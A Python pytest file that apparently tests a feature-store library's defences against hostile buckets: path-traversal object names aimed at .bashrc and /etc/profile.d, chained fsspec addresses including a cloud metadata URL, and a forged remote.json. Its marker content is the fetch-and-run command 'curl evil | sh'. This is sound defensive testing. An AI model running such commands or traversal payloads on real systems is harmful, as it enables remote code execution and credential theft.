"""A bucket, an address or a store's own `remote.json` that somebody made to do harm.

Kind: names of objects are taken for paths, and any address that fsspec knows is opened. Every
command is given a store at an address that lists such names; nothing appears outside the cache.
"""

import json
import shutil

import fsspec
import pytest
from fsspec.implementations.memory import MemoryFile

from stores import FeatureStore
from stores.errors import StoreError, StoreRefused
from stores.features.layers import read_layers, remember_layers
from stores.layout import locate
from stores.storage.remote.cache import folder_name
from tests.faults.hostile import COMMANDS, fill
from tests.support.s3_server import BUCKET, environment, running_s3
from tests.support.samples import RECIPE, a_store, objects, some_keys

EVIL = b"curl evil | sh"
NAMES = [
    "datasets/../../../../.bashrc",
    "../.bashrc",
    "features/../../x",
    "..",
    "/etc/profile.d/x.sh",
    "datasets//x/manifest.parquet",
    "datasets/./manifest.parquet",
    "runs/..\\..\\x",
    "C:/x",
    "datasets/a\nb/manifest.parquet",
    "datasets/a\x1b[2J/manifest.parquet",
    f"datasets/{'x' * 256}/manifest.parquet",
    f"runs/{'ab' * 8}/../../../.bashrc",
    f"runs/{'ab' * 8}/test/../../../../../.bashrc",
]
CHAINS = [
    "zip://store::file:///tmp/x.zip",
    "zip:///tmp/x.zip",
    "reference://",
    "reference://store::file:///tmp/x.json",
    "simplecache::s3://bucket/store",
    "s3://bucket/store::file:///tmp",
    "filecache://x",
    "github://user:repo@main/x",
    "ftp://host/x",
    "http://169.254.169.254/latest/meta-data",
    "dir://x::file:///",
    "local+zip://x",
]


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GARGALO_CACHE", str(home / ".cache" / "gargalo"))
    monkeypatch.chdir(home)
    return home


@pytest.fixture
def address(tmp_path, home):
    """A store in memory, and a function that gives one of its objects any name."""
    mirror = locate(f"memory://{tmp_path.name}/store")
    a_store(mirror)
    shutil.rmtree(home / ".cache")
    return f"memory://{tmp_path.name}/store"


def put(address, name, content=EVIL):
    files, base = fsspec.core.url_to_fs(address)
    full = f"{base}/{name}"
    files.store[full] = MemoryFile(files, full, content)


def leaks(home):
    return [path for path in home.rglob("*") if path.is_file() and EVIL in path.read_bytes()]


def outside(home):
    """Return all that is below a home folder and above it, but for the cache and a good store."""
    found = {path.relative_to(home.parent) for path in home.parent.rglob("*")}
    return {str(p) for p in found if p.parts[:2] != ("home", ".cache") and p.parts[0] != "own"}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_is_no_files_of_a_store_is_refused_by_every_command(
    address, home, name, tmp_path
):
    put(address, name)
    before, refused = outside(home), set()
    for called, command in COMMANDS.items():
        try:
            command(locate(address), tmp_path / "own")
        except StoreError as error:
            refused |= {called} if "an object there has the name" in str(error) else set()
        assert outside(home) == before, called
        assert not leaks(home)
    assert refused >= {"stats", "verify", "reindex", "gc", "list", "merge from it"}


def test_a_layer_with_such_names_is_passed_over(address, home, tmp_path, caplog):
    put(address, f"features/{RECIPE.fingerprint[:16]}/index/../../../../.bashrc")
    store, _, _ = a_store(tmp_path / "own")
    (store.root / "layers.json").path.write_text(json.dumps({"format": 1, "layers": [address]}))
    before = outside(home)
    assert FeatureStore(store.root, RECIPE).missing(some_keys(9, seed=4)).all()
    assert "a layer is passed over" in caplog.text
    assert outside(home) == before


def test_a_folder_marker_is_no_name(address):
    put(address, "datasets/", b"")
    assert not FeatureStore(address, RECIPE).missing(some_keys(6)).any()


@pytest.mark.parametrize("name", ["remote.json", "pulled.json", "tmp/x", "lock", "engines/o/m.xml"])
def test_what_is_one_machines_own_is_not_taken_from_a_bucket(address, name):
    put(address, name)
    mirror = locate(address)
    for folder in (mirror, mirror / "features", mirror / "datasets"):
        folder.refresh()
    path = (mirror / name).path
    assert not path.is_file() or EVIL not in path.read_bytes()
    assert mirror.show() == address


@pytest.mark.parametrize("chain", CHAINS)
def test_addresses_are_of_stores_and_lead_to_no_other(home, chain, tmp_path):
    with pytest.raises(StoreRefused, match=r"^[^\n]*(expected|is not opened|credentials)"):
        locate(chain)
    own = tmp_path / "own"
    own.mkdir()
    (own / "layers.json").write_text(json.dumps({"format": 1, "layers": [chain]}))
    with pytest.raises(StoreRefused, match=r"layers.json.*--read-through none"):
        FeatureStore(own, RECIPE)
    remember_layers(own, [])  # the way out
    assert read_layers(own) == ()
    assert not (home / ".cache").exists()


def test_a_cache_at_an_address_is_refused(monkeypatch, home):
    monkeypatch.setenv("GARGALO_CACHE", "zip://x::file:///y")
    with pytest.raises(StoreRefused, match="GARGALO_CACHE: expected a folder"):
        locate("memory://bucket/store")


def test_a_store_does_not_say_that_it_is_a_mirror(address, home, tmp_path):
    """As its `remote.json` would have it, each file written would be put at the address first."""
    evil = f"memory://{tmp_path.name}/evil"
    about = json.dumps({"format": 1, "address": evil, "limit": 2**30})
    put(evil, "datasets/pets/manifest.parquet")
    store = tmp_path / folder_name(evil)
    fill(store)
    inner = store / "features" / folder_name(evil)
    inner.mkdir()
    for folder in (store, inner):
        (folder / "remote.json").write_text(about)
    for command in COMMANDS.values():
        try:
            command(store, tmp_path / "own")
        except StoreError:
            continue
    assert locate(store).show() == str(store)
    assert locate(inner).show() == str(inner)
    assert objects(locate(evil)) == ["datasets/pets/manifest.parquet"]


@pytest.fixture
def bucket(tmp_path, home, monkeypatch):
    """Return a function that puts an object of any name into a bucket of a real server."""
    with running_s3(tmp_path) as port:
        for name, value in environment(port, home / ".cache" / "gargalo").items():
            monkeypatch.setenv(name, value)
        files = fsspec.filesystem("s3", skip_instance_cache=True)
        yield lambda key: files.call_s3("put_object", Bucket=BUCKET, Key=key, Body=EVIL)


@pytest.mark.server
def test_a_real_bucket_holds_such_names(bucket, home):
    bucket("one/datasets/a/manifest.parquet")
    bucket(f"one/{NAMES[0]}")
    with pytest.raises(StoreRefused, match="an object there has the name"):
        locate(f"s3://{BUCKET}/one").refresh()
    for name in ("datasets/a", "datasets/a/manifest.parquet"):  # a file, and a folder too
        bucket(f"two/{name}")
    with pytest.raises(StoreError, match=r"datasets/a: expected a f.*, found a f"):
        locate(f"s3://{BUCKET}/two").refresh()
    assert [path.name for path in home.iterdir()] == [".cache"]
